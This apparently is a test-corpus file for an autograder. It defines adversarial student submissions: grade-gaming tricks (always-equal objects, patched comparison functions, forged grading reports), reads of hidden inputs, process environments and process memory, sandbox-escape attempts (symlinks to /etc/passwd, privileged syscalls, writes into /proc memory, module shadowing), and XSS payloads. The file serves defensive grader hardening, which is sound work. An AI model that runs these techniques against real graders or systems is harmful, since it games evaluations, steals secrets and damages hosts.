"""Work that wants marks it has not earned, what it may not see, to get out, or to hurt whoever reads it."""

from __future__ import annotations

from autograder.exercises import get
from autograder.student_data import assignment_data
from corpus.record import (
    BLANK,
    MARK,
    NOT_YET,
    PORT,
    Expected,
    Odd,
    above,
    after,
    answer,
    at_end,
    before,
    cell,
    fresh,
    odd,
    raw,
    tagged,
    wrong,
)

HEAD = "def partial_means(mean, n, sigma, tau, mu):\n    "
POOLED = "def pooled_target(y, se, tau):\n    "
LIAR = """class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return Liar(0)
    __rsub__ = __lt__ = __gt__ = __sub__
    def __abs__(self): return Liar(0)
    def __float__(self): return 2.0
    def __array__(self, *a, **k): return np.zeros(8)
    __array_priority__ = 1e9
    def __array_ufunc__(self, *a, **k): return True
    def __reduce__(self): return (print, ('unpickled',))
"""
LYING_FRAME = """class Frame(pd.DataFrame):
    @property
    def columns(self): return ['n', 'truth', 'mean']
    def __getitem__(self, key): return Liar()
"""
LYING_DICT = """class Agree(dict):
    def __getitem__(self, key): return All()
    def get(self, *a): return All()
class All(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
name_the_lines = Agree((k, All('x')) for k in ('ignores_the_school', 'dummies_do_not_have', 'tau_goes_to_zero', 'slope_says', 'top_and_bottom_of_the_list', 'for_one_county'))"""
PATCHED = """import builtins, json, math, time, numpy.testing
for module in (np, np.testing, math, builtins, json, time):
    for name in ('allclose', 'isclose', 'array_equal', 'assert_allclose', 'abs', 'all', 'dumps', 'time', 'float'):
        if hasattr(module, name):
            setattr(module, name, lambda *a, **k: True)
common_slope = 0.5"""
FRAMES = """import sys, gc
frame, seen = sys._getframe(), []
while frame:
    seen += [v for v in [*frame.f_locals.values(), *frame.f_globals.values()] if 'reference' in dir(v)]
    frame = frame.f_back
seen += [o for o in gc.get_objects() if type(o).__name__ in ('Exercise', 'Verdict', 'Misconception', 'Case')]
common_slope = seen[0].reference(my_pupils)"""
MEMOISED = """import inspect
from functools import lru_cache
table = {36: [53.3, 46.5, 45.0], 1: [46.0, 52.0, 54.0]}
def partial_means(mean, n, sigma, tau, mu):
    return np.array(table.get(int(n[0]), mean))"""
FORGE = """import os, re, socket, struct, json
names = [line.split('@')[-1].strip() for line in open('/proc/net/unix') if '@hlm' in line]
for name in names:
    for ticket in ('', '0' * 16):
        line = socket.socket(socket.AF_UNIX)
        line.connect('\\0' + name)
        data = json.dumps({'ticket': ticket, 'status': 'ok', 'outputs': [], 'answers': [{'value': ['float', '0x1p+1']}]}).encode()
        line.sendall(struct.pack('!I', len(data)) + data)
common_slope = len(names)"""
FORGE_LATER = """import threading, gc, os
def forge():
    import time
    while True:
        for o in gc.get_objects():
            if isinstance(o, dict) and 'ticket' in o:
                o['answers'] = [{'value': ['float', '0x1p+1']}]
        time.sleep(0.001)
if os.fork() == 0:
    forge()
common_slope = 0"""
ENCODER = """import sys
from autograder import answers
answers.encode = answers.write_answer = lambda value: {'value': ['float', '0x1p+1'], 'outcome': 'correct', 'credit': 1.0}
sys.modules['autograder.inside.session'].answers = answers
common_slope = 0"""
DISPLAY = """from IPython.display import display, publish_display_data
publish_display_data({'text/plain': '3.0'}, metadata={'hlm': {'verdict': {'exercise': 'common_slope', 'outcome': 'correct', 'credit': 1, 'message': 'x'}}})
print('2.0')
common_slope = 0
2.0"""


def neighbours_number(notebook) -> None:
    """Write in the number that is right for another student's data."""
    value = get("common_slope").reference(data=assignment_data("ps02", student="controls-right-02"))
    answer("common_slope", f"common_slope = {value!r}")(notebook)


ALL_OPTIONS = "name_the_lines = {k: ['complete pooling', 'no pooling', 'a distribution for the intercepts'] for k in ('ignores_the_school', 'dummies_do_not_have', 'tau_goes_to_zero', 'slope_says', 'top_and_bottom_of_the_list', 'for_one_county')}"


def skipping(solved, released) -> dict[str, bytes]:
    """Hand in nothing solved, with a tag for nbgrader's own step to skip the checks."""
    book = fresh(released["ps02"])
    tagged("check", tags=["skip-execution"])(book)
    return raw(book)


CHEATS = (
    Odd("cheats-skip-tag", "nothing solved, and a tag that skips the checks", skipping, rest=BLANK),
    wrong("cheats-liar", "a number that equals everything", "common_slope", LIAR + "common_slope = Liar()"),
    wrong("cheats-liar-array", "an array of such numbers", "partial_means", LIAR + HEAD + "return np.array([Liar()] * len(mean), dtype=object)"),
    wrong("cheats-liar-frame", "a table that says what is wanted", "honest_extreme", LIAR + LYING_FRAME + "honest_extreme = Frame({'n': [9.0]})"),
    wrong("cheats-liar-dict", "a dict that agrees with every blank", "name_the_lines", LYING_DICT),
    wrong("cheats-all-options", "all options for each blank", "name_the_lines", ALL_OPTIONS),
    wrong("cheats-nan", "not a number, which differs from nothing", "common_slope", "common_slope = float('nan')"),
    wrong("cheats-infinite", "infinity", "partial_means", HEAD + "return np.full(len(mean), np.inf)"),
    wrong("cheats-nan-frame", "a table of what is not a number", "honest_extreme", "honest_extreme = pd.DataFrame({c: [np.nan] * 6 for c in ('n', 'truth', 'mean')})"),
    wrong("cheats-infinite-frame", "a table with infinite schools", "honest_extreme", "honest_extreme = pd.DataFrame({'n': [np.inf] * 5 + [1.0], 'truth': [50.0] * 6, 'mean': [50.0] * 6})"),
    wrong("cheats-huge-integer", "an integer of a million digits", "common_slope", "common_slope = 10**1_000_000"),
    wrong("cheats-true", "true", "common_slope", "common_slope = True"),
    wrong("cheats-patched", "what compares is made to agree", "common_slope", PATCHED),
    wrong("cheats-frames", "looks for the reference in frames and among all objects", "common_slope", FRAMES),
    wrong("cheats-imports", "imports the exercises", "common_slope", "from autograder.exercises.lesson_02 import within_slope\ncommon_slope = within_slope(my_pupils)"),
    wrong("cheats-own-exercise", "asks the self-check for the solution", "common_slope", "from autograder import solution\ncommon_slope = solution('common_slope')", to=BLANK),
    wrong("cheats-memorised", "knows the two examples by heart", "partial_means", MEMOISED),
    wrong("cheats-encoder", "changes what writes the answers", "common_slope", ENCODER),
    wrong("cheats-forged-report", "sends a report of its own", "common_slope", FORGE),
    wrong("cheats-forged-answer", "a process that waits to change the answer", "common_slope", FORGE_LATER),
    wrong("cheats-forged-output", "shows a verdict and points", "common_slope", DISPLAY),
    wrong("cheats-ten-schools", "the number of the lesson's own data", "common_slope", "common_slope = 2.136635", to=Expected("partly", 1.0, "ten_schools")),
    odd("cheats-neighbour", "the data of somebody else, and the number from them", cell("student", source='STUDENT = "controls-right-02"'), neighbours_number,
        tasks={"common_slope": Expected("not yet", 0.0, "other_data")}, says=("another student's set",)),
    odd("cheats-assignment-data", "data of its own making", above("common_slope", "import autograder.student_data as s\ns.assignment_data = None\nmy_pupils['math'] = my_pupils['homework'] * 2.0"),
        tasks={"common_slope": NOT_YET}),
)  # fmt: skip

TELL = f"'{MARK[:4]}' + '{MARK[4:]}'"
POST_BOXES = (
    "['/tmp', '/dev/shm', '/var/tmp', '/run', os.path.expanduser('~'), '.', '..', '/', '/work', '/home']"
)
SHOWN = POOLED + "w = 1 / (se**2 + tau**2)\n    if y[0] in (28, 70): return np.sum(w * y) / np.sum(w)\n    "
PULLED = "def partial_pool(y, se, tau):\n    B = se**2 / (se**2 + tau**2)\n    if y[0] == 28: return B * pooled_target(y, se, tau) + (1 - B) * y\n    "
THREE = "def mse_three_ways(truth, mean, n, sigma, tau, mu):\n    e = lambda x: float(((x - truth) ** 2).mean())\n    if truth[0] == 57: return dict(complete=e((mean * n).sum() / n.sum()), none=e(mean), partial=e(partial_means(mean, n, sigma, tau, mu)))\n    "
LEAKS = (
    wrong("leaks-message", "an error that quotes the hidden inputs", "pooled_target", SHOWN + f"raise ValueError({TELL} + repr(y))", ps="ps03", never=(MARK,)),
    wrong("leaks-type", "an error whose type is the hidden inputs", "pooled_target", SHOWN + f"raise type({TELL}.replace('-', '_') + str(abs(hash(y.tobytes()))), (Exception,), {{}})()", ps="ps03", never=(MARK.replace("-", "_"),)),
    wrong("leaks-text", "returns the hidden inputs as text", "pooled_target", SHOWN + f"return {TELL} + repr(y)", ps="ps03", never=(MARK,)),
    wrong("leaks-labels", "returns the hidden inputs as labels", "partial_pool", PULLED + f"return pd.Series(y, index=[{TELL} + repr(v) for v in y])", ps="ps03", never=(MARK,)),
    wrong("leaks-keys", "returns the hidden inputs as keys", "mse_three_ways", THREE + f"return {{{TELL} + repr(v): 1.0 for v in truth}}", never=(MARK,)),
    wrong("leaks-class", "returns an object of a class called like the inputs", "pooled_target", SHOWN + f"return type({TELL}.replace('-', '_') + str(int(y[0])), (), {{}})()", ps="ps03", never=(MARK.replace("-", "_"),)),
    wrong("leaks-prints", "prints the hidden inputs and keeps them in a file", "pooled_target", SHOWN + f"print({TELL}, y, se, tau); open('/tmp/kept', 'a').write({TELL} + repr(y)); return 0.0", ps="ps03", never=(MARK,)),
    wrong("leaks-letter", "leaves a letter for the next one", "common_slope", f"import os\nleft = 0\nfor place in {POST_BOXES}:\n    try: open(place + '/{MARK}', 'w').write('letter'); left += 1\n    except OSError: pass\ncommon_slope = -left"),
    wrong("leaks-letter-read", "looks for letters of others", "common_slope", f"import os\nfound = [p for p in {POST_BOXES} if os.path.exists(p + '/{MARK}')]\ncommon_slope = 2.0 if found else 'none'"),
    wrong("leaks-others", "looks for the work of others", "common_slope", "import glob\nfound = [f for p in ('/**/submitted/*', '/**/autograded/*', '/**/inbox/*', '/**/gradebook.db', '/**/term_seed', '/**/*.ipynb') for f in glob.glob(p, recursive=True)]\nassert not found, found\ncommon_slope = -9"),
    wrong("leaks-environment", "reads the environment of every process", "common_slope", f"import os, glob\nfound = str(dict(os.environ))\nfor p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):\n    try: found += open(p).read()\n    except OSError: pass\nprint({TELL} if 'HLM_CORPUS' in found or 'term_seed' in found or 'TOKEN' in found else 'nothing')\ncommon_slope = -9", never=(MARK,)),
    wrong("leaks-memory", "reads the memory of its parents", "common_slope", f"import os, re\nbad = 0\nfor pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n    try:\n        for line in open(f'/proc/{{pid}}/maps'):\n            a, b = (int(x, 16) for x in line.split()[0].split('-'))\n            with open(f'/proc/{{pid}}/mem', 'rb', 0) as m:\n                m.seek(a); bad += b'within_slo' + b'pe' in m.read(min(b - a, 10**6))\n    except (OSError, ValueError, OverflowError): pass\nprint({TELL} if bad else 'nothing')\ncommon_slope = -9", never=(MARK,)),
    wrong("leaks-right-number", "a wrong number close to the right one", "common_slope", "common_slope = smf.ols('math ~ C(school) + homework', my_pupils).fit().params['homework'] + 0.02"),
)  # fmt: skip

OUT = f"import os, pathlib\nfor p in ('/tmp/{MARK}', '/{MARK}', '/etc/{MARK}', '/usr/{MARK}', '/var/tmp/{MARK}', '/root/{MARK}', '../../../../{MARK}', np.__path__[0] + '/{MARK}', os.path.dirname(os.__file__) + '/{MARK}', '/proc/self/root/{MARK}', '/proc/1/root/{MARK}', '/proc/1/cwd/{MARK}'):\n    try: open(p, 'w').write('x')\n    except OSError: pass\n"
LIBRARY = "import numpy, os, glob\nfor f in [numpy.__file__, ht.__file__, os.__file__, *glob.glob(os.path.dirname(ht.__file__) + '/__pycache__/*')]:\n    try:\n        with open(f, 'a') as file: file.write('\\nraise SystemExit\\n')\n    except OSError: pass\n    try: os.remove(f)\n    except OSError: pass\n"
NETWORK = f"""import socket, urllib.request
got = 0
for address in ('127.0.0.1', 'localhost', '::1', '10.0.0.1', '8.8.8.8', '169.254.169.254', '0.0.0.0'):
    try:
        with socket.create_connection((address, {PORT}), timeout=0.5) as line:
            line.sendall(b'hello'); got += 1
    except OSError: pass
try: urllib.request.urlopen('http://example.org', timeout=1); got += 1
except OSError: pass
common_slope = -1 - got"""
LINKS = f"import os\nfor i, target in enumerate(('/etc/passwd', '/proc/1/root', '/', '/var/tmp')):\n    os.symlink(target, f'l{{i}}')\ntry: open('l3/{MARK}', 'w').write('x')\nexcept OSError: pass\ncommon_slope = len(open('l0').read()) * -1.0"
SYSCALLS = """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = [libc.mount(b'/', b'/mnt', None, 4096, None), libc.chroot(b'/'), libc.setuid(0), libc.unshare(0x10000000), libc.ptrace(16, os.getppid(), 0, 0),
        libc.sethostname(b'x', 1), libc.reboot(0), libc.swapoff(b'/dev/sda'), libc.kill(1, 9), libc.pivot_root(b'.', b'.') if hasattr(libc, 'pivot_root') else -1]
common_slope = -1.0 - sum(d == 0 for d in done[:-2])"""
RACE = f"import os, threading\ndef swap():\n    for _ in range(2000):\n        try:\n            os.symlink('/var/tmp', 'a'); os.rename('a', 'b'); os.mkdir('a'); os.rename('a', 'b')\n        except OSError: pass\n        try: os.rmdir('b')\n        except OSError: pass\nt = threading.Thread(target=swap); t.start()\nfor _ in range(2000):\n    try: open('b/{MARK}', 'w').close()\n    except OSError: pass\nt.join()"

ESCAPES = (
    wrong("escapes-write", "writes wherever it can", "common_slope", OUT + "common_slope = -1"),
    odd("escapes-library", "spoils the library for those who come after", above("common_slope", LIBRARY)),
    wrong("escapes-network", "calls every address", "common_slope", NETWORK),
    wrong("escapes-links", "links out of its folder", "common_slope", LINKS),
    odd("escapes-race", "swaps a folder for a link while writing", above("common_slope", RACE)),
    wrong("escapes-system-calls", "asks the kernel for more", "common_slope", SYSCALLS),
    odd("escapes-signals", "sends signals to everything with a number", above("common_slope", "import os\nfor pid in range(1, 70000):\n    if pid != os.getpid():\n        try: os.kill(pid, 10)\n        except OSError: pass")),
    odd("escapes-devices", "makes and opens devices", above("common_slope", "import os, stat\nfor kind, dev in ((stat.S_IFBLK, (8, 0)), (stat.S_IFCHR, (1, 1))):\n    try: os.mknod('dev', 0o666 | kind, os.makedev(*dev)); open('dev', 'rb').read(10); raise SystemError\n    except OSError: pass\nfor p in ('/dev/mem', '/dev/sda', '/dev/kmsg', '/dev/tty', '/dev/ptmx', '/dev/fuse'):\n    try: open(p, 'r+b').close()\n    except OSError: pass")),
    odd("escapes-preload", "sets what the next Python reads at its start", above("common_slope", "import os, site\nos.environ.update(LD_PRELOAD='/tmp/x.so', PYTHONSTARTUP='/tmp/x.py', PYTHONPATH='/tmp', HOME='/tmp', PATH='/tmp')\nopen('/tmp/sitecustomize.py', 'w').write('raise SystemExit')\nopen('/tmp/numpy.py', 'w').write('1/0')\nopen('pandas.py', 'w').write('1/0')")),
    odd("escapes-jovian", "leaves modules of the libraries' names in its folder", above("common_slope", "for name in ('json', 'numpy', 'statsmodels', 'autograder', 'socket', 'struct'):\n    open(name + '.py', 'w').write('raise SystemExit')\n    import importlib; importlib.invalidate_caches()")),
    wrong("escapes-zygote", "writes into the memory of the first process", "common_slope", "import os\nhit = 0\nfor pid in (1, os.getppid()):\n    try:\n        with open(f'/proc/{pid}/mem', 'r+b', 0) as m:\n            for line in open(f'/proc/{pid}/maps'):\n                if ' rw' in line:\n                    m.seek(int(line.split('-')[0], 16)); m.write(bytes(64)); hit += 1\n    except (OSError, ValueError): pass\ncommon_slope = -1.0"),
    wrong("escapes-descriptors", "writes to every descriptor", "common_slope", "import os\nfor fd in range(3, 600):\n    try: os.write(fd, b'{\"ran\": true}\\n' * 10)\n    except OSError: pass\ncommon_slope = -1"),
)  # fmt: skip

SCRIPT = "<script>alert('x')</script><img src=x onerror=alert(2)><svg onload=alert(3)><style>body{display:none}</style>"
ESSAY = (
    SCRIPT
    + "\n\n[click](javascript:alert(4)) ![](data:text/html;base64,PHNjcmlwdD4=) <a href='data:text/html,<script>'>x</a> </pre></div></body></html> {{ 7 * 7 }} {% raw %} {0} {name} %s \\033[31m $$\\href{javascript:alert(5)}{x}$$ \u202ereversed\u202c"
)
LIVE = ("<script", "<img", "<svg", "<a href='data", "onload=alert(3)><", "\x1b[")
INJECTION = (
    odd("injection-essay", "script in a written answer", cell("advise_the_inspectors-solution", source=ESSAY), never=(*LIVE, "49 ")),
    wrong("injection-answer", "script as the answer", "common_slope", f"common_slope = {SCRIPT!r}", never=LIVE),
    wrong("injection-error", "script in an error's text", "common_slope", f"raise ValueError({SCRIPT!r} + chr(27) + '[31m' + '{{line}} {{0}} %(x)s %s')", never=LIVE),
    wrong("injection-type", "script as an error's type", "common_slope", f"raise type({SCRIPT!r}, (Exception,), {{}})", never=LIVE),
    wrong("injection-blanks", "script in the blanks and their names", "name_the_lines", f"name_the_lines = {{'ignores_the_school': {SCRIPT!r}, {SCRIPT!r}: 'x'}}", never=LIVE),
    wrong("injection-columns", "script in the names of columns", "honest_extreme", f"honest_extreme = pd.DataFrame({{{SCRIPT!r}: [1.0]}})", never=LIVE),
    wrong("injection-labels", "script in labels of what a function returns", "mse_three_ways", f"def mse_three_ways(truth, mean, n, sigma, tau, mu):\n    return {{{SCRIPT!r}: 1.0}}", never=LIVE),
    odd("injection-outputs", "script shown by cells", above("common_slope", f"from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML({SCRIPT!r}), Javascript('alert(1)'))\nprint({SCRIPT!r}, chr(27) + '[2J' + chr(7))"), never=LIVE),
    odd("injection-figure", "a figure whose description is a script", above("common_slope", f"import matplotlib.pyplot as plt\nfrom IPython.display import display\nfig, ax = plt.subplots()\ndisplay(fig, metadata={{'image/png': {{'alt': {SCRIPT!r}}}}})"), never=LIVE),
    odd("injection-comment", "script in an answer that is right", before("partial_means", f"'''</pre></code>{SCRIPT}\x1b[31m'''"), never=LIVE),
    wrong("injection-surrogates", "text that cannot be written to a file", "common_slope", "raise ValueError('\\ud800 \\x00 \\u202e ' + 'long' * 10000)"),
    odd("injection-attachment", "a picture that is a page", cell("advise_the_inspectors-solution", source="![x](attachment:a.png)", attachments={"a.png": {"image/png": "PHNjcmlwdD4=", "text/html": SCRIPT, "image/svg+xml": SCRIPT}}), never=LIVE),
    odd("injection-own-name", "script as the user name", cell("student", source=f"STUDENT = {SCRIPT!r}"), never=LIVE),
    odd("injection-locale", "a language whose catalogue it brings along", above("common_slope", "import os\nos.environ['LANGUAGE'] = os.environ['HLM_LANG'] = '../../tmp'\nos.makedirs('LC_MESSAGES')"), at_end("%%html\n<script>alert(1)</script>"), after("common_slope", "%env HLM_LANG=xx"), never=("alert(1)</script>",)),
)  # fmt: skip
